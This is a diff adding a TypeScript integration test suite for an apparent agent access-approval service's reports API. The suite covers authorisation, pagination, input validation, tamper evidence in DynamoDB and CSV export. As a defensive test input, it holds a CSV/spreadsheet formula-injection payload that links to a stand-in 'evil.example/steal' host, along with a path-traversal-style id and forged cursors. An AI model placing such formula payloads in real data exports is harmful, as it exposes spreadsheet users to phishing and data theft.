@@ -1,0 +1,552 @@
+import { type DynamoDBClient, UpdateItemCommand } from '@aws-sdk/client-dynamodb';
+import { marshall } from '@aws-sdk/util-dynamodb';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { DynamoDbEventStore } from '../../lambdas/adapters/dynamodb-events.js';
+import { DynamoDbReports } from '../../lambdas/adapters/dynamodb-reports.js';
+import { DynamoDbRequestStore, keys } from '../../lambdas/adapters/dynamodb-store.js';
+import type { ApiEvent, ApiResult } from '../../lambdas/adapters/http.js';
+import { JwtAuthenticator } from '../../lambdas/adapters/jwt-authenticator.js';
+import type { Logger } from '../../lambdas/adapters/logger.js';
+import { CloudTrailLinker } from '../../lambdas/core/linker.js';
+import { sanitizeSourceIdentity } from '../../lambdas/core/session-policy.js';
+import { createReportsHandler } from '../../lambdas/handlers/reports.js';
+import { createLocalDynamoDbClient, type DynamoDbLocal } from '../../lib/local/dynamodb-local.js';
+import { type LocalServer, listenLocal, sendJson } from '../../lib/local/http-server.js';
+import { createLocalIssuer, type LocalIssuer } from '../../lib/local/oidc-issuer.js';
+import {
+  assumeRoleRecord,
+  CONFIG,
+  callRecord,
+  lifecycle,
+  startTable,
+  TABLE_ARN,
+  TestClock,
+} from './support.js';
+
+const NOW = '2025-03-06T12:00:00.000Z';
+const INJECTION = '=HYPERLINK("http://evil.example/steal","Click")';
+
+let db: DynamoDbLocal;
+let client: DynamoDBClient;
+let reportsClient: DynamoDBClient;
+let table: string;
+let jwks: LocalServer;
+let issuer: LocalIssuer;
+let handler: ReturnType<typeof createReportsHandler>;
+const clock = new TestClock(Date.parse(NOW));
+/** Every DynamoDB command the reports sent, by name. */
+const commands: string[] = [];
+const silent: Logger = { info: () => undefined, warn: () => undefined, error: () => undefined };
+
+/** Ids of the requests made in beforeAll, by what they are. */
+const made: Record<string, string> = {};
+
+beforeAll(async () => {
+  ({ db, client, table } = await startTable());
+  let issuerRef: LocalIssuer | undefined;
+  jwks = await listenLocal((_req, res) => sendJson(res, 200, issuerRef!.jwks()));
+  issuer = createLocalIssuer({ issuer: jwks.url, audience: 'countersign' });
+  issuerRef = issuer;
+
+  reportsClient = createLocalDynamoDbClient(db.endpoint);
+  reportsClient.middlewareStack.add(
+    (next, context) => async (args) => {
+      commands.push(String(context.commandName));
+      return next(args);
+    },
+    { step: 'initialize', name: 'recordCommandNames' },
+  );
+  handler = createReportsHandler({
+    reports: new DynamoDbReports(reportsClient, table),
+    authenticator: new JwtAuthenticator({
+      issuer: issuer.issuer,
+      audience: 'countersign',
+      jwksUri: `${jwks.url}/.well-known/jwks.json`,
+      groupsClaim: 'groups',
+      roles: CONFIG.roles,
+    }),
+    logger: silent,
+    issuer: issuer.issuer,
+    clock,
+  });
+  await seed();
+}, 60_000);
+
+afterAll(async () => {
+  client?.destroy();
+  reportsClient?.destroy();
+  await jwks?.close();
+  await db?.stop();
+});
+
+beforeEach(() => {
+  commands.length = 0;
+});
+
+/**
+ * Requests over four days, made through the real lifecycle, with the agents' issuer being the one
+ * the reports API runs under.
+ */
+async function seed(): Promise<void> {
+  const life = lifecycle(client, table, clock);
+  const linker = new CloudTrailLinker({
+    events: new DynamoDbEventStore(client, table),
+    requests: new DynamoDbRequestStore(client, table),
+  });
+  const agentCaller = (sub: string) => ({
+    sub,
+    issuer: issuer.issuer,
+    groups: ['agents'],
+    roles: new Set(['agent' as const]),
+  });
+  const ask = async (at: string, agent: string, resource: string, actions: string[]) => {
+    clock.set(at);
+    const { request } = await life.requests.create(
+      agentCaller(agent),
+      JSON.stringify({ resource, actions, reason: 'Nightly maintenance (OPS-1)', durationSeconds: 900 }),
+    );
+    return request.id;
+  };
+  const decide = async (id: string, afterSeconds: number, decision: 'approve' | 'deny') => {
+    clock.advance(afterSeconds);
+    await life.decisions.decide({ requestId: id, approver: 'alice@example.com', decision, channel: 'slack' });
+  };
+  const claimAndCall = async (
+    id: string,
+    agent: string,
+    calls: Array<{ eventName: string; errorCode?: string; tableName: string }>,
+  ) => {
+    clock.advance(30);
+    const credentials = await life.claims.claim(agentCaller(agent), id);
+    const sourceIdentity = sanitizeSourceIdentity(agent);
+    await linker.link(
+      assumeRoleRecord({
+        requestId: id,
+        mintedAccessKeyId: credentials.AccessKeyId,
+        sourceIdentity,
+        eventTime: clock.now().toISOString(),
+      }),
+    );
+    for (const call of calls) {
+      clock.advance(10);
+      await linker.link(
+        callRecord({
+          requestId: id,
+          accessKeyId: credentials.AccessKeyId,
+          sourceIdentity,
+          eventTime: clock.now().toISOString(),
+          ...call,
+        }),
+      );
+    }
+  };
+
+  made.usedGrant = await ask('2025-03-01T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
+    'dynamodb:PutItem',
+  ]);
+  await decide(made.usedGrant, 30, 'approve');
+  await claimAndCall(made.usedGrant, 'deploy-bot', [{ eventName: 'PutItem', tableName: 'orders' }]);
+
+  made.policyDenied = await ask('2025-03-01T10:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
+    'dynamodb:DeleteTable',
+  ]);
+
+  made.unusedGrant = await ask('2025-03-02T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), [
+    'dynamodb:PutItem',
+  ]);
+  await decide(made.unusedGrant, 30, 'approve');
+
+  made.rubberStamp = await ask('2025-03-02T11:00:00.000Z', 'etl-bot', TABLE_ARN('flagged-ledger'), [
+    'dynamodb:PutItem',
+  ]);
+  await decide(made.rubberStamp, 1, 'approve');
+  await claimAndCall(made.rubberStamp, 'etl-bot', [
+    { eventName: 'PutItem', tableName: 'flagged-ledger' },
+    { eventName: 'DeleteTable', tableName: 'flagged-ledger', errorCode: 'AccessDenied' },
+  ]);
+
+  made.humanDenied = await ask('2025-03-03T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
+    'dynamodb:PutItem',
+  ]);
+  await decide(made.humanDenied, 40, 'deny');
+
+  made.policyAllowed = await ask('2025-03-03T10:00:00.000Z', INJECTION, TABLE_ARN('orders'), [
+    'dynamodb:GetItem',
+  ]);
+
+  made.timedOut = await ask('2025-03-04T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), ['dynamodb:PutItem']);
+
+  // Outside the main range: the requests the tamper tests edit by hand.
+  made.toEditHistory = await ask('2025-02-20T09:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
+    'dynamodb:PutItem',
+  ]);
+  await decide(made.toEditHistory, 30, 'approve');
+  made.toEditStatus = await ask('2025-02-20T10:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
+    'dynamodb:DeleteTable',
+  ]);
+  made.untouched = await ask('2025-02-20T11:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
+    'dynamodb:DeleteTable',
+  ]);
+
+  clock.set(NOW);
+}
+
+const RANGE = { from: '2025-03-01', to: '2025-03-06' };
+
+async function get(
+  path: string,
+  options: {
+    query?: Record<string, string>;
+    token?: string | null;
+    resource?: string;
+    id?: string;
+    accept?: string;
+  } = {},
+): Promise<{ status: number; body: Record<string, unknown>; text: string; headers: Record<string, string> }> {
+  const token =
+    options.token === undefined ? issuer.sign({ sub: 'carol-auditor', groups: ['auditors'] }) : options.token;
+  const event: ApiEvent = {
+    httpMethod: 'GET',
+    path,
+    ...(options.resource ? { resource: options.resource } : {}),
+    headers: {
+      ...(token ? { Authorization: `Bearer ${token}` } : {}),
+      ...(options.accept ? { Accept: options.accept } : {}),
+    },
+    queryStringParameters: options.query ?? null,
+    pathParameters: options.id ? { id: options.id } : null,
+    body: null,
+  };
+  const result = (await handler(event, {} as never)) as ApiResult;
+  let body: Record<string, unknown> = {};
+  try {
+    body = JSON.parse(result.body);
+  } catch {
+    // CSV
+  }
+  return { status: result.statusCode, body, text: result.body, headers: result.headers };
+}
+
+type Summary = {
+  request: { id: string; status: string };
+  findings: Array<{ type: string }>;
+  complete: boolean;
+  integrity: { valid: boolean };
+};
+const items = (body: Record<string, unknown>) => body.items as Summary[];
+
+async function listAll(query: Record<string, string>): Promise<{ ids: string[]; pages: number }> {
+  const ids: string[] = [];
+  let cursor: string | undefined;
+  let pages = 0;
+  do {
+    const answer = await get('/v1/reports/requests', { query: { ...query, ...(cursor ? { cursor } : {}) } });
+    expect(answer.status).toBe(200);
+    ids.push(...items(answer.body).map((i) => i.request.id));
+    cursor = (answer.body.nextCursor as string | null) ?? undefined;
+    pages += 1;
+    expect(pages).toBeLessThan(20);
+  } while (cursor);
+  return { ids, pages };
+}
+
+describe('reports: who may read them', () => {
+  it('answers auditors, refuses agents and approvers with 403 and the unauthenticated with 401', async () => {
+    const agent = await get('/v1/reports/requests', {
+      token: issuer.sign({ sub: 'deploy-bot', groups: ['agents'] }),
+    });
+    const approver = await get('/v1/reports/access-review', {
+      token: issuer.sign({ sub: 'alice@example.com', groups: ['approvers'] }),
+    });
+    const nobody = await get('/v1/reports/requests', { token: null });
+    const auditor = await get('/v1/reports/requests', { query: RANGE });
+
+    expect(agent.status).toBe(403);
+    expect((agent.body.error as { code: string }).code).toBe('Forbidden');
+    expect(approver.status).toBe(403);
+    expect(nobody.status).toBe(401);
+    expect(auditor.status).toBe(200);
+  });
+});
+
+describe('GET /v1/reports/requests', () => {
+  const newestFirst = () => [
+    made.timedOut,
+    made.policyAllowed,
+    made.humanDenied,
+    made.rubberStamp,
+    made.unusedGrant,
+    made.policyDenied,
+    made.usedGrant,
+  ];
+
+  it('pages through the byDay partitions of the range, newest first, each request once', async () => {
+    const { ids, pages } = await listAll({ ...RANGE, limit: '2' });
+
+    expect(ids).toEqual(newestFirst());
+    expect(pages).toBe(4);
+  });
+
+  it('filters by agent through the byAgent index, with its own pages', async () => {
+    const { ids } = await listAll({ ...RANGE, agent: 'etl-bot', limit: '1' });
+
+    expect(ids).toEqual([made.timedOut, made.rubberStamp, made.unusedGrant]);
+  });
+
+  it('filters by effective status: an approved grant past notAfter is EXPIRED, a lost PENDING is TIMED_OUT', async () => {
+    const expired = await listAll({ ...RANGE, status: 'EXPIRED', limit: '3' });
+    const timedOut = await listAll({ ...RANGE, status: 'TIMED_OUT' });
+    const denied = await listAll({ ...RANGE, status: 'DENIED', agent: 'deploy-bot' });
+
+    expect(expired.ids).toEqual([made.policyAllowed, made.rubberStamp, made.unusedGrant, made.usedGrant]);
+    expect(timedOut.ids).toEqual([made.timedOut]);
+    expect(denied.ids).toEqual([made.humanDenied, made.policyDenied]);
+  });
+
+  it('summarises each request with its findings and completeness, without an extra read per request', async () => {
+    const answer = await get('/v1/reports/requests', { query: { ...RANGE, limit: '100' } });
+
+    const byId = Object.fromEntries(items(answer.body).map((i) => [i.request.id, i]));
+    const types = (id: string) => byId[id]!.findings.map((f) => f.type).sort();
+    expect(types(made.unusedGrant!)).toEqual(['UNUSED_GRANT']);
+    expect(types(made.rubberStamp!)).toEqual(['ACCESS_DENIED', 'RUBBER_STAMP']);
+    expect(types(made.usedGrant!)).toEqual([]);
+    expect(byId[made.usedGrant!]!.complete).toBe(true);
+    expect(byId[made.timedOut!]!.complete).toBe(false);
+    expect(Object.values(byId).every((i) => i.integrity.valid)).toBe(true);
+    // One Query per day partition of the range, nothing per item.
+    expect(commands.filter((c) => c !== 'QueryCommand')).toEqual([]);
+    expect(commands.length).toBeLessThanOrEqual(6);
+  });
+
+  it.each([
+    [{ limit: '0' }, 'limit'],
+    [{ limit: '101' }, 'limit'],
+    [{ limit: 'ten' }, 'limit'],
+    [{ status: 'MAYBE' }, 'status'],
+    [{ from: 'yesterday' }, 'from'],
+    [{ from: '2025-03-06', to: '2025-03-01' }, 'from'],
+    [{ from: '2024-11-01', to: '2025-03-01' }, 'from'],
+    [{ stauts: 'DENIED' }, 'stauts'],
+  ])('refuses %j with a 400 naming the parameter', async (query, field) => {
+    const answer = await get('/v1/reports/requests', { query: query as Record<string, string> });
+
+    expect(answer.status).toBe(400);
+    expect(answer.body.error).toMatchObject({ code: 'ValidationError', details: { field } });
+    expect(commands).toEqual([]);
+  });
+
+  it('refuses a tampered, foreign or out-of-range cursor with a 400, before touching the table', async () => {
+    const first = await get('/v1/reports/requests', { query: { ...RANGE, limit: '2' } });
+    const cursor = String(first.body.nextCursor);
+    const decoded = JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8'));
+    const reencode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
+    commands.length = 0;
+
+    const tampered = [
+      `${cursor.slice(0, -2)}!!`,
+      cursor.split('').reverse().join(''),
+      reencode({ ...decoded, d: '2025-01-01' }),
+      reencode({ ...decoded, k: `2020-01-01T00:00:00.000Z#${made.usedGrant}` }),
+      reencode({ ...decoded, k: 'x'.repeat(40) }),
+      reencode({ ...decoded, extra: true }),
+      reencode([1, 2, 3]),
+      'A'.repeat(600),
+    ];
+    const foreign = await get('/v1/reports/requests', {
+      query: { ...RANGE, limit: '2', status: 'DENIED', cursor },
+    });
+    const answers = await Promise.all(
+      tampered.map((c) => get('/v1/reports/requests', { query: { ...RANGE, cursor: c } })),
+    );
+
+    expect(foreign.status).toBe(400);
+    expect(answers.map((a) => a.status)).toEqual(tampered.map(() => 400));
+    expect(
+      answers.every((a) => (a.body.error as { details: { field: string } }).details.field === 'cursor'),
+    ).toBe(true);
+    expect(commands).toEqual([]);
+  });
+});
+
+describe('GET /v1/reports/requests/{id}', () => {
+  it('answers the evidence record, by API Gateway route template or by path', async () => {
+    const byResource = await get(`/v1/reports/requests/${made.rubberStamp}`, {
+      resource: '/v1/reports/requests/{id}',
+      id: made.rubberStamp!,
+    });
+    const byPath = await get(`/v1/reports/requests/${made.rubberStamp}`);
+
+    expect(byResource.status).toBe(200);
+    expect(byPath.body).toEqual(byResource.body);
+    const record = byResource.body as {
+      request: { id: string; status: string };
+      evidence: {
+        activity: Array<{ eventName: string; errorCode?: string }>;
+        sessions: unknown[];
+        decision: { decisions: unknown[] };
+      };
+      findings: Array<{ type: string }>;
+      complete: boolean;
+      integrity: { valid: boolean };
+    };
+    expect(record.request).toMatchObject({ id: made.rubberStamp, status: 'EXPIRED' });
+    expect(record.evidence.activity.map((e) => e.eventName)).toEqual([
+      'AssumeRole',
+      'PutItem',
+      'DeleteTable',
+    ]);
+    expect(record.evidence.sessions).toHaveLength(1);
+    expect(record.findings.map((f) => f.type).sort()).toEqual(['ACCESS_DENIED', 'RUBBER_STAMP']);
+    expect(record.complete).toBe(true);
+    expect(record.integrity).toEqual({ valid: true });
+    // The task token stored in the same partition never reaches the reader.
+    expect(byResource.text).not.toContain('TOKEN');
+    // One Query on the request's partition.
+    expect(commands).toEqual(['QueryCommand', 'QueryCommand']);
+  });
+
+  it('is 404 for an unknown or malformed id', async () => {
+    const unknown = await get('/v1/reports/requests/req_AAAAAAAAAAAAAAAAAAAA');
+    const malformed = await get('/v1/reports/requests/..%2F..%2Fetc');
+
+    expect(unknown.status).toBe(404);
+    expect(malformed.status).toBe(404);
+  });
+});
+
+describe('tamper evidence', () => {
+  const record = async (id: string) => {
+    const answer = await get(`/v1/reports/requests/${id}`);
+    return answer.body as {
+      integrity: { valid: boolean; problem?: string };
+      findings: Array<{ type: string }>;
+    };
+  };
+
+  it('fails verification after a history entry is edited by hand in DynamoDB', async () => {
+    const before = await record(made.toEditHistory!);
+    await client.send(
+      new UpdateItemCommand({
+        TableName: table,
+        Key: marshall(keys.request(made.toEditHistory!)),
+        UpdateExpression: 'SET history[0].#event = :event',
+        ExpressionAttributeNames: { '#event': 'event' },
+        ExpressionAttributeValues: marshall({ ':event': 'created:DENIED' }),
+      }),
+    );
+
+    const after = await record(made.toEditHistory!);
+
+    expect(before.integrity).toEqual({ valid: true });
+    expect(after.integrity.valid).toBe(false);
+    expect(after.integrity.problem).toMatch(/entry 1 .* altered/);
+    expect(after.findings.map((f) => f.type)).toContain('INTEGRITY_FAILURE');
+  });
+
+  it('fails verification after the request status is edited by hand, in the record and in the listing', async () => {
+    await client.send(
+      new UpdateItemCommand({
+        TableName: table,
+        Key: marshall(keys.request(made.toEditStatus!)),
+        UpdateExpression: 'SET #status = :status',
+        ExpressionAttributeNames: { '#status': 'status' },
+        ExpressionAttributeValues: marshall({ ':status': 'APPROVED' }),
+      }),
+    );
+
+    const after = await record(made.toEditStatus!);
+    const listing = await get('/v1/reports/requests', { query: { from: '2025-02-20', to: '2025-02-21' } });
+
+    expect(after.integrity.valid).toBe(false);
+    expect(after.integrity.problem).toContain('differs from the state its history last recorded');
+    const byId = Object.fromEntries(items(listing.body).map((i) => [i.request.id, i.integrity.valid]));
+    expect(byId).toMatchObject({ [made.toEditStatus!]: false, [made.untouched!]: true });
+  });
+});
+
+describe('GET /v1/reports/access-review', () => {
+  it('counts per agent in JSON', async () => {
+    const answer = await get('/v1/reports/access-review', { query: RANGE });
+
+    expect(answer.status).toBe(200);
+    expect(answer.body.agents).toEqual([
+      {
+        agent: INJECTION,
+        issuer: issuer.issuer,
+        requests: 1,
+        approved: 1,
+        denied: 0,
+        timedOut: 0,
+        medianDecisionSeconds: null,
+        rubberStamps: 0,
+        unusedGrants: 1,
+        resourcesTouched: [],
+      },
+      {
+        agent: 'deploy-bot',
+        issuer: issuer.issuer,
+        requests: 3,
+        approved: 1,
+        denied: 2,
+        timedOut: 0,
+        medianDecisionSeconds: 35,
+        rubberStamps: 0,
+        unusedGrants: 0,
+        resourcesTouched: [TABLE_ARN('orders')],
+      },
+      {
+        agent: 'etl-bot',
+        issuer: issuer.issuer,
+        requests: 3,
+        approved: 2,
+        denied: 0,
+        timedOut: 1,
+        medianDecisionSeconds: 15.5,
+        rubberStamps: 1,
+        unusedGrants: 1,
+        resourcesTouched: [TABLE_ARN('flagged-ledger')],
+      },
+    ]);
+  });
+
+  it('answers CSV for Accept: text/csv, with a formula in an agent name neutralised', async () => {
+    const answer = await get('/v1/reports/access-review', { query: RANGE, accept: 'text/csv' });
+
+    expect(answer.status).toBe(200);
+    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
+    const lines = answer.text.trimEnd().split('\r\n');
+    expect(lines[0]).toBe(
+      '"agent","issuer","requests","approved","denied","timedOut","medianDecisionSeconds","rubberStamps","unusedGrants","resourcesTouched"',
+    );
+    expect(lines).toHaveLength(4);
+    // The cell starts with a quote mark, so a spreadsheet shows the text instead of evaluating it.
+    expect(lines[1]!.startsWith(`"'=HYPERLINK(""http://evil.example/steal"",""Click"")",`)).toBe(true);
+    expect(lines[2]).toBe(`"deploy-bot","${issuer.issuer}",3,1,2,0,35,0,0,"${TABLE_ARN('orders')}"`);
+    expect(answer.text).not.toMatch(/(^|,)=/m);
+  });
+
+  it('refuses a range over 90 days and unknown parameters', async () => {
+    const wide = await get('/v1/reports/access-review', { query: { from: '2024-01-01', to: '2025-01-01' } });
+    const unknown = await get('/v1/reports/access-review', { query: { ...RANGE, agent: 'etl-bot' } });
+
+    expect(wide.status).toBe(400);
+    expect(unknown.status).toBe(400);
+  });
+});
+
+describe('reports read with Query and GetItem only', () => {
+  it('issues no Scan on any route', async () => {
+    await listAll({ ...RANGE, limit: '2' });
+    await listAll({ ...RANGE, agent: 'deploy-bot', status: 'DENIED' });
+    await get(`/v1/reports/requests/${made.usedGrant}`);
+    await get('/v1/reports/access-review', { query: RANGE });
+    await get('/v1/reports/access-review', { query: RANGE, accept: 'text/csv' });
+
+    expect(commands.length).toBeGreaterThan(0);
+    expect(new Set(commands)).toEqual(new Set(['QueryCommand']));
+    expect(commands.every((c) => ['QueryCommand', 'GetItemCommand', 'BatchGetItemCommand'].includes(c))).toBe(
+      true,
+    );
+  });
+});
